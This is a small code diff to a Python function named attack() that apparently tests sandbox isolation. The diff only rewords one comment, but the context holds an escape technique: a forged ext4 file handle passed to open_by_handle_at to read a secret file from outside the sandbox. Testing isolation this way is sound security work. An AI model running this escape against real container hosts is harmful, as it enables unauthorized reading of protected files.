@@ -14,7 +14,7 @@ def attack():
     except OSError:
         # a made-up handle of the root folder of an ext4 disk
         handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0))
-    # the working folder tells the kernel on which disk the handle is meant
+    # the handle refers to the disk of the working folder
     os.chdir(os.path.dirname("@SECRET@") if os.path.exists("@SECRET@") else "/")
     file = syscall("open_by_handle_at", AT_FDCWD, handle, os.O_RDONLY)
     leaked(os.read(file, 100))
